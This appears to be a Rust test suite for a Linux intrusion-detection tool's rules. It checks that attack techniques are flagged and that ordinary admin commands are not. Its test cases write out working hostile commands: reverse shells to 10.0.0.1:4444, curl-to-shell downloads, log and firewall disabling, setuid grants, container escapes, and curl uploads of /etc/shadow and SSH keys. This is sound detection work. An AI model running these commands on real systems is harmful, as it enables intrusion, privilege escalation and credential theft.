//! The built-in Linux rules (rules/builtin/linux) on process events shaped as the agent
//! sends them: each technique the rules name is caught, and the ordinary use of the same
//! programs is not. Recall over every GTFOBins example and false positives over recorded
//! work are measured by `watchpost eval gtfobins` and `watchpost eval host-fp`.

use watchpost_sigma::{CompiledRuleSet, FlatEvent, RuleSet, sources};

fn rules() -> CompiledRuleSet {
    let mut set = RuleSet::default();
    set.add_builtin();
    set.compile()
}

/// A process event: image, command line, parent image and command line, real and
/// effective uid, parent uid, capabilities, previous image.
#[derive(Default, Clone, Copy)]
struct Exec<'a> {
    image: &'a str,
    command: &'a str,
    parent: &'a str,
    parent_command: &'a str,
    uid: &'a str,
    euid: &'a str,
    parent_uid: &'a str,
    capabilities: &'a str,
    previous: &'a str,
    original: &'a str,
    /// The program at the other end of stdin's or stdout's pipe.
    stdin_peer: &'a str,
    stdout_peer: &'a str,
    /// The remote address of a socket on stdin.
    stdin_remote: &'a str,
    /// The package of a set-id program.
    package: &'a str,
}

fn exec(image: &'static str, command: &'static str, parent: &'static str) -> Exec<'static> {
    Exec {
        image,
        command,
        parent,
        parent_command: "-bash",
        uid: "1000",
        euid: "1000",
        parent_uid: "1000",
        ..Exec::default()
    }
}

/// `e` run by root (real and effective uid 0), as under sudo.
fn as_root(e: Exec<'static>) -> Exec<'static> {
    Exec {
        uid: "0",
        euid: "0",
        ..e
    }
}

/// `e` run from a root shell (the parent is root too).
fn in_root_shell(e: Exec<'static>) -> Exec<'static> {
    Exec {
        parent_uid: "0",
        ..as_root(e)
    }
}

fn flat(e: &Exec) -> FlatEvent {
    let mut f = FlatEvent::from_source(sources::LINUX_PROCESS_CREATION);
    for (name, value) in [
        ("Image", e.image),
        ("CommandLine", e.command),
        ("ParentImage", e.parent),
        ("ParentCommandLine", e.parent_command),
        ("UserId", e.uid),
        ("EffectiveUserId", e.euid),
        ("ParentUserId", e.parent_uid),
        ("Capabilities", e.capabilities),
        ("PreviousImage", e.previous),
        ("OriginalFileName", e.original),
        ("StdinPeer", e.stdin_peer),
        ("StdoutPeer", e.stdout_peer),
        ("StdinRemoteIp", e.stdin_remote),
        ("Package", e.package),
    ] {
        if !value.is_empty() {
            f.push(name, value);
        }
    }
    f
}

fn titles(rules: &CompiledRuleSet, e: &Exec) -> Vec<String> {
    rules
        .matches(&flat(e))
        .iter()
        .map(|m| m.rule.title.clone())
        .collect()
}

#[test]
fn techniques_are_caught() {
    let rules = rules();
    let cases: Vec<(Exec, &str)> = vec![
        (
            exec("/bin/sh", "/bin/sh", "/usr/bin/less"),
            "Interactive Shell",
        ),
        (
            exec("/bin/sh", "sh -c /bin/sh", "/usr/bin/vim"),
            "Interactive Shell",
        ),
        (
            Exec {
                previous: "/usr/bin/python3",
                ..exec("/bin/bash", "/bin/bash -i", "/bin/bash")
            },
            "Interactive Shell",
        ),
        (
            exec(
                "/bin/bash",
                "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "/bin/bash",
            ),
            "/dev/tcp",
        ),
        (
            exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", "/bin/bash"),
            "Netcat",
        ),
        (
            exec(
                "/usr/bin/ncat",
                "ncat --sh-exec /bin/bash 10.0.0.1 4444",
                "/bin/bash",
            ),
            "Netcat",
        ),
        (
            exec(
                "/usr/bin/socat",
                "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr",
                "/bin/bash",
            ),
            "Socat",
        ),
        (
            exec(
                "/usr/bin/python3",
                "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
                "/bin/bash",
            ),
            "Inline Script Wiring",
        ),
        (
            exec(
                "/usr/bin/php",
                "php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                "/bin/bash",
            ),
            "Inline Script Wiring",
        ),
        (
            exec(
                "/bin/sh",
                "sh -c curl -fsSL http://10.0.0.1:8000/x | sh",
                "/bin/bash",
            ),
            "Download Piped",
        ),
        (
            as_root(exec(
                "/usr/bin/systemctl",
                "systemctl stop rsyslog",
                "/bin/bash",
            )),
            "Security Logging or Protection Turned Off",
        ),
        (
            as_root(exec("/usr/sbin/setenforce", "setenforce 0", "/bin/bash")),
            "Security Logging or Protection Turned Off",
        ),
        (
            as_root(exec("/usr/sbin/iptables", "iptables -F", "/bin/bash")),
            "Security Logging or Protection Turned Off",
        ),
        (
            as_root(exec("/usr/bin/chmod", "chmod u+s /tmp/.bash", "/bin/bash")),
            "Set-User-ID Bit or Root-Equivalent Capability Granted",
        ),
        (
            as_root(exec("/usr/bin/chmod", "chmod 4755 /tmp/.bash", "/bin/bash")),
            "Set-User-ID Bit or Root-Equivalent Capability Granted",
        ),
        (
            as_root(exec(
                "/usr/sbin/setcap",
                "setcap cap_setuid+ep /usr/bin/python3.11",
                "/bin/bash",
            )),
            "Set-User-ID Bit or Root-Equivalent Capability Granted",
        ),
        (
            as_root(exec(
                "/usr/bin/nsenter",
                "nsenter -t 1 -m -u -i -n -p -- bash",
                "/bin/bash",
            )),
            "Host's Namespaces or Root",
        ),
        (
            exec("/usr/bin/unshare", "unshare -r /bin/sh", "/bin/bash"),
            "Host's Namespaces or Root",
        ),
        (
            exec(
                "/usr/bin/cat",
                "cat /home/alice/.aws/credentials",
                "/bin/bash",
            ),
            "Credential Files or Process Memory",
        ),
        (
            as_root(exec(
                "/usr/bin/gdb",
                "gdb -p 812 -batch -ex gcore",
                "/bin/bash",
            )),
            "Credential Files or Process Memory",
        ),
        (
            // Typed at a prompt: bash reads a pipe whose other end is wget. No command
            // line holds the pipeline; the streams recorded at the exec do.
            Exec {
                stdin_peer: "/usr/bin/wget",
                ..exec("/bin/bash", "bash", "/bin/bash")
            },
            "Reading Code From a Downloader",
        ),
        (
            Exec {
                stdout_peer: "/usr/bin/dash",
                ..exec("/usr/bin/curl", "curl -fsSL http://x/i.sh", "/bin/bash")
            },
            "Reading Code From a Downloader",
        ),
        (
            // A renamed copy of bash reading curl: named by its original.
            Exec {
                stdin_peer: "/usr/bin/curl",
                original: "bash",
                ..exec("/tmp/.cache/kthreadd", "kthreadd", "/bin/bash")
            },
            "Reading Code From a Downloader",
        ),
        (
            Exec {
                stdin_remote: "203.0.113.9",
                ..exec("/bin/sh", "/bin/sh -i", "/usr/bin/perl")
            },
            "Wired to a Network Connection",
        ),
        (
            Exec {
                package: "",
                euid: "0",
                ..exec("/tmp/.x/passwd", "passwd", "/bin/bash")
            },
            "Set-User-ID Bit It Should Not Have",
        ),
        (
            exec("/bin/sh", "sh -c echo aWQK | base64 -d | sh", "/bin/bash"),
            "Base64-Decoded",
        ),
        (
            exec(
                "/bin/bash",
                "bash -c eval \"$(echo aWQK | base64 --decode)\"",
                "/bin/bash",
            ),
            "Base64-Decoded",
        ),
        (
            Exec {
                euid: "0",
                ..exec(
                    "/usr/bin/find",
                    "find . -exec /bin/sh -p ; -quit",
                    "/bin/bash",
                )
            },
            "Set-User-ID",
        ),
        (
            Exec {
                capabilities: "cap_setuid",
                ..exec(
                    "/usr/bin/python3",
                    "python3 -c import os; os.setuid(0)",
                    "/bin/bash",
                )
            },
            "Capability",
        ),
        (
            as_root(exec("/bin/sh", "/bin/sh", "/usr/bin/python3")),
            "Root Process Started by a Non-Root Parent",
        ),
        (
            exec("/usr/bin/rm", "rm -f /home/a/.bash_history", "/bin/bash"),
            "History",
        ),
        (
            exec(
                "/usr/bin/truncate",
                "truncate -s 0 /var/log/auth.log",
                "/bin/bash",
            ),
            "Logs",
        ),
        (
            exec(
                "/usr/bin/chattr",
                "chattr +i /root/.ssh/authorized_keys",
                "/bin/bash",
            ),
            "chattr",
        ),
        (
            exec(
                "/usr/bin/touch",
                "touch -r /bin/ls /usr/local/bin/backdoor",
                "/bin/bash",
            ),
            "touch",
        ),
        (
            exec("/usr/bin/cat", "cat /etc/shadow", "/bin/bash"),
            "shadow",
        ),
        (
            exec("/usr/bin/base64", "base64 /home/a/.ssh/id_rsa", "/bin/bash"),
            "SSH Private Key",
        ),
        (
            exec("/usr/bin/crontab", "crontab -", "/bin/bash"),
            "Crontab",
        ),
        (
            exec(
                "/usr/bin/tee",
                "tee -a /root/.ssh/authorized_keys",
                "/bin/bash",
            ),
            "Persistence Location",
        ),
        (
            exec(
                "/usr/bin/cp",
                "cp x.service /etc/systemd/system/x.service",
                "/bin/bash",
            ),
            "Persistence Location",
        ),
        (
            exec("/usr/bin/find", "find / -perm -4000 -type f", "/bin/bash"),
            "Set-User-ID or Capability",
        ),
        (
            exec(
                "/usr/bin/curl",
                "curl -F f=@/etc/passwd http://x/",
                "/bin/bash",
            ),
            "Local File Sent",
        ),
        (
            exec("/usr/bin/nc", "nc -lvnp 4444", "/bin/bash"),
            "Raw Network Transfer",
        ),
        (
            exec("/usr/bin/code", "code tunnel --name box", "/bin/bash"),
            "Tunnel",
        ),
        (
            exec("/usr/bin/dash", "git-x", "/usr/bin/git"),
            "Interactive Shell",
        ),
        (
            Exec {
                original: "sh",
                ..exec("/tmp/t/git-x", "git-x", "/usr/bin/git")
            },
            "Under Another Name",
        ),
        (
            Exec {
                original: "socat",
                ..exec(
                    "/dev/shm/kworker",
                    "kworker TCP:203.0.113.5:443 EXEC:sh",
                    "/bin/bash",
                )
            },
            "Under Another Name",
        ),
        (
            exec(
                "/bin/sh",
                "/bin/sh -c /bin/sh 0<&2 1>&2; kill $PPID",
                "/usr/bin/msgfilter",
            ),
            "Wired to the Terminal",
        ),
        (
            exec(
                "/bin/sh",
                "/bin/sh -c $@|sh _ echo sh </dev/tty >/dev/tty 2>/dev/tty",
                "/usr/bin/jrunscript",
            ),
            "Wired to the Terminal",
        ),
        (
            exec("/usr/bin/dvips", "dvips -R0 texput.dvi", "/bin/bash"),
            "Shell Escapes",
        ),
        (
            exec(
                "/usr/bin/pdflatex",
                "pdflatex --shell-escape doc.tex",
                "/bin/bash",
            ),
            "Shell Escapes",
        ),
        (
            exec(
                "/usr/bin/docker",
                "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
                "/bin/bash",
            ),
            "Host's Root",
        ),
        (
            exec(
                "/usr/bin/ctr",
                "ctr run --rm --mount type=bind,src=/,dst=/,options=rbind -t alpine x",
                "/usr/bin/sudo",
            ),
            "Host's Root",
        ),
        (
            exec(
                "/usr/bin/lxc",
                "lxc config device add x x disk source=/ path=/mnt/ recursive=true",
                "/bin/bash",
            ),
            "Host's Root",
        ),
        (exec("/usr/bin/sed", "sed e", "/bin/bash"), "e Command"),
        (
            exec("/usr/bin/sed", "sed -n 1e id /etc/hosts", "/bin/bash"),
            "e Command",
        ),
        (
            exec(
                "/usr/bin/systemctl",
                "systemctl enable --now /tmp/x.service",
                "/usr/bin/sudo",
            ),
            "Outside the Unit Directories",
        ),
        (
            exec(
                "/usr/bin/yum",
                "yum install http://203.0.113.5/x.rpm",
                "/usr/bin/sudo",
            ),
            "From a URL",
        ),
        (
            exec(
                "/usr/sbin/hping3",
                "hping3 203.0.113.5 --icmp --data 100 --sign x --file /etc/shadow",
                "/bin/bash",
            ),
            "Hping",
        ),
        (
            exec("/usr/bin/script", "script -q /dev/null", "/bin/bash"),
            "/dev/null",
        ),
        (
            exec(
                "/usr/bin/script",
                "script -qc /bin/bash /dev/null",
                "/bin/sh",
            ),
            "/dev/null",
        ),
        (
            exec("/usr/bin/minicom", "minicom -D /dev/null", "/bin/bash"),
            "/dev/null",
        ),
        (
            as_root(exec(
                "/usr/sbin/nginx",
                "nginx -c /tmp/n.conf",
                "/usr/bin/sudo",
            )),
            "Outside Its Directories",
        ),
        (
            as_root(exec(
                "/usr/sbin/lighttpd",
                "lighttpd -D -f ./l.conf",
                "/usr/bin/sudo",
            )),
            "Outside Its Directories",
        ),
        (
            exec(
                "/usr/bin/tailscale",
                "tailscale serve --http=8080 /etc/shadow",
                "/usr/bin/sudo",
            ),
            "Through a Tunnel",
        ),
        (
            exec(
                "/usr/bin/tailscale",
                "tailscale funnel --set-path /f /home/a/docs",
                "/bin/bash",
            ),
            "Through a Tunnel",
        ),
        (
            exec(
                "/usr/local/bin/ngrok",
                "ngrok http file:///home/a",
                "/bin/bash",
            ),
            "Through a Tunnel",
        ),
    ];
    let mut failures = Vec::new();
    for (e, expected) in &cases {
        let got = titles(&rules, e);
        if !got.iter().any(|t| t.contains(expected)) {
            failures.push(format!(
                "{:?} expected a rule with {expected:?}, got {got:?}",
                e.command
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn ordinary_work_is_not_flagged() {
    let rules = rules();
    let mut cases = vec![
        // Audit logs name the kernel's comm as OriginalFileName: the program itself.
        Exec {
            original: "python3",
            ..exec("/usr/bin/python3.11", "python3 script.py", "/bin/bash")
        },
        Exec {
            original: "sh",
            ..exec("/usr/bin/dash", "sh -c 'make all'", "/usr/bin/make")
        },
        exec("/usr/bin/less", "less /var/log/syslog", "/bin/bash"),
        in_root_shell(exec(
            "/usr/bin/systemctl",
            "systemctl restart nginx",
            "/bin/bash",
        )),
        in_root_shell(exec(
            "/usr/bin/systemctl",
            "systemctl status rsyslog",
            "/bin/bash",
        )),
        in_root_shell(exec(
            "/usr/bin/systemctl",
            "systemctl stop nginx",
            "/bin/bash",
        )),
        in_root_shell(exec("/usr/sbin/iptables", "iptables -L -n", "/bin/bash")),
        in_root_shell(exec(
            "/usr/sbin/iptables",
            "iptables -t nat -F DOCKER",
            "/usr/bin/dockerd",
        )),
        in_root_shell(exec(
            "/usr/sbin/nft",
            "nft delete table inet watchpost_isolation",
            "/usr/bin/watchpost",
        )),
        exec("/usr/bin/chmod", "chmod 755 deploy.sh", "/bin/bash"),
        exec("/usr/bin/chmod", "chmod g+w,o-rwx shared", "/bin/bash"),
        exec(
            "/usr/bin/chmod",
            "chmod -R u+rwX,go+rX /srv/www",
            "/bin/bash",
        ),
        in_root_shell(exec(
            "/usr/sbin/setcap",
            "setcap cap_net_bind_service+ep /usr/bin/node",
            "/bin/bash",
        )),
        exec("/usr/bin/cat", "cat ~/.bashrc", "/bin/bash"),
        exec("/usr/bin/unshare", "unshare --help", "/bin/bash"),
        exec("/usr/bin/gdb", "gdb ./app core", "/bin/bash"),
        // Look-alikes of the rules above.
        exec("/bin/sh", "sh -c exec bash </dev/tty", "/bin/bash"),
        exec("/usr/bin/dvips", "dvips paper.dvi -o paper.ps", "/bin/bash"),
        exec("/usr/bin/pdflatex", "pdflatex report.tex", "/bin/bash"),
        exec(
            "/usr/bin/docker",
            "docker run -d -v /srv/pgdata:/var/lib/postgresql/data postgres:16",
            "/bin/bash",
        ),
        exec("/usr/bin/sed", "sed -e s/foo/bar/g notes.txt", "/bin/bash"),
        exec("/usr/bin/sed", "sed -n /error/p app.log", "/bin/bash"),
        exec(
            "/usr/bin/sed",
            "sed -i.bak -e /^#/d config.ini",
            "/bin/bash",
        ),
        exec(
            "/usr/bin/systemctl",
            "systemctl enable --now postgresql",
            "/bin/bash",
        ),
        exec(
            "/usr/bin/systemctl",
            "systemctl link /etc/systemd/system/backup.service",
            "/bin/bash",
        ),
        exec("/usr/bin/dnf", "dnf install -y nginx", "/bin/bash"),
        exec(
            "/usr/sbin/hping3",
            "hping3 -S -p 443 -c 3 example.org",
            "/bin/bash",
        ),
        exec("/usr/bin/vim", "vim notes.txt", "/bin/bash"),
        exec("/usr/bin/find", "find . -name *.log", "/bin/bash"),
        exec("/usr/bin/awk", "awk {print $1}", "/bin/bash"),
        exec("/usr/bin/tar", "tar czf backup.tar.gz /etc", "/bin/bash"),
        exec(
            "/usr/bin/curl",
            "curl -O https://example.org/tool.tar.gz",
            "/bin/bash",
        ),
        exec("/usr/bin/python3", "python3 script.py", "/bin/bash"),
        exec("/usr/bin/crontab", "crontab -e", "/bin/bash"),
        exec("/usr/bin/crontab", "crontab -l", "/bin/bash"),
        exec("/usr/bin/systemctl", "systemctl restart nginx", "/bin/bash"),
        exec("/usr/bin/nc", "nc -zv db1 5432", "/bin/bash"),
        exec(
            "/usr/bin/ssh",
            "ssh -i /home/a/.ssh/id_ed25519 deploy@web1",
            "/bin/bash",
        ),
        exec("/usr/bin/touch", "touch newfile.txt", "/bin/bash"),
        exec("/usr/bin/base64", "base64 -d token.b64", "/bin/bash"),
        // script recording a session or faking a terminal for one command; minicom on a line.
        exec("/usr/bin/script", "script session.log", "/bin/bash"),
        exec(
            "/usr/bin/script",
            "script -qefc make test /dev/null",
            "/bin/bash",
        ),
        exec("/usr/bin/minicom", "minicom -D /dev/ttyUSB0", "/bin/bash"),
        // A root web server from its installed configuration; a developer's own, unprivileged.
        as_root(exec(
            "/usr/sbin/nginx",
            "nginx -c /etc/nginx/nginx.conf -g daemon off;",
            "/usr/lib/systemd/systemd",
        )),
        exec(
            "/usr/sbin/nginx",
            "nginx -c /home/a/dev/nginx.conf",
            "/bin/bash",
        ),
        // A local web app published through a tunnel.
        exec(
            "/usr/bin/tailscale",
            "tailscale serve --bg 3000",
            "/bin/bash",
        ),
        exec(
            "/usr/bin/tailscale",
            "tailscale serve --set-path /api http://localhost:3000",
            "/bin/bash",
        ),
        exec("/usr/local/bin/ngrok", "ngrok http 8080", "/bin/bash"),
        // An interactive shell from a terminal, sshd, sudo or another shell.
        exec("/bin/bash", "-bash", "/usr/sbin/sshd"),
        exec("/bin/bash", "bash", "/usr/bin/tmux"),
        exec("/bin/bash", "/bin/bash", "/usr/bin/sudo"),
        exec("/bin/zsh", "zsh", "/bin/bash"),
        // A script run by a program is not an interactive shell.
        exec("/bin/sh", "sh -c make all", "/usr/bin/make"),
        exec("/bin/sh", "/bin/sh ./configure", "/usr/bin/python3"),
        // sudo's own set-user-id run, and the root child it starts.
        Exec {
            euid: "0",
            package: "sudo",
            ..exec("/usr/bin/sudo", "sudo systemctl restart nginx", "/bin/bash")
        },
        Exec {
            euid: "0",
            package: "passwd",
            ..exec("/usr/bin/passwd", "passwd", "/bin/bash")
        },
    ];
    cases.push(as_root(exec(
        "/usr/bin/systemctl",
        "systemctl restart nginx",
        "/usr/bin/sudo",
    )));
    let mut failures = Vec::new();
    for e in &cases {
        let got = titles(&rules, e);
        if !got.is_empty() {
            failures.push(format!(
                "{:?} (parent {}) flagged by {got:?}",
                e.command, e.parent
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn a_shell_from_a_web_server_or_its_account() {
    let rules = rules();
    const TITLE: &str = "Shell Started by a Web Server or Under a Web Server's Account";
    let event = |image: &str, command: &str, parent: &str, user: &str| {
        let mut e = FlatEvent::from_source(sources::LINUX_PROCESS_CREATION);
        for (name, value) in [
            ("Image", image),
            ("CommandLine", command),
            ("ParentImage", parent),
            ("User", user),
        ] {
            e.push(name, value);
        }
        rules.matches(&e).iter().any(|m| m.rule.title == TITLE)
    };
    // Command injection in a Python or PHP application running as www-data, and a shell
    // from nginx or PHP-FPM whatever the account.
    assert!(event(
        "/bin/sh",
        "sh -c ping -c1 127.0.0.1; id",
        "/usr/bin/python3.11",
        "www-data"
    ));
    assert!(event(
        "/usr/bin/dash",
        "sh -c whoami",
        "/usr/sbin/php-fpm8.2",
        "app"
    ));
    assert!(event("/bin/bash", "bash -i", "/usr/sbin/nginx", "root"));
    // The same shells for ordinary accounts, and the web account running other programs.
    assert!(!event(
        "/bin/sh",
        "sh -c make",
        "/usr/bin/python3.11",
        "alice"
    ));
    assert!(!event(
        "/usr/bin/php",
        "php artisan queue:work",
        "/usr/bin/python3",
        "www-data"
    ));
}

#[test]
fn curl_uploads_are_read_from_curls_syntax_not_from_any_at_sign() {
    let rules = rules();
    const TITLE: &str = "Local File Sent to a Remote Server by a Command-Line Client";
    let flagged = |command: &'static str| {
        titles(&rules, &exec("/usr/bin/curl", command, "/bin/bash"))
            .iter()
            .any(|t| t == TITLE)
    };
    for upload in [
        "curl -d @/etc/passwd http://203.0.113.7/",
        "curl -d@/etc/shadow http://203.0.113.7/",
        "curl --data-binary @/tmp/db.tar.gz https://paste.example/up",
        "curl --data '@/root/.ssh/id_ed25519' http://203.0.113.7/",
        "curl --data-urlencode secret@/etc/shadow http://203.0.113.7/",
        "curl --data-urlencode @/etc/hosts http://203.0.113.7/",
        "curl -F 'file=@/etc/shadow' http://203.0.113.7/",
        "curl -F f=</etc/passwd http://203.0.113.7/",
        "curl --form \"doc=@report.pdf;type=application/pdf\" https://203.0.113.7/",
        "curl -T /etc/passwd ftp://203.0.113.7/",
        "curl --upload-file ./dump.sql https://transfer.example/dump.sql",
    ] {
        assert!(flagged(upload), "{upload}");
    }
    for ordinary in [
        "curl -d 'email=a@b.example' https://shop.example/subscribe",
        "curl -H 'Content-Type: application/json' -d '{\"@timestamp\":\"2026-12-08\"}' http://127.0.0.1:9200/logs/_doc",
        "curl --data-raw @literal https://api.example/echo",
        "curl --data-urlencode 'q=user@example.com' https://search.example/",
        "curl -u alice@example.com:secret https://api.example/",
        "curl -F 'name=alice@example.com' https://forms.example/",
        "curl https://user@git.example/repo.git/info/refs",
    ] {
        assert!(!flagged(ordinary), "{ordinary}");
    }
}
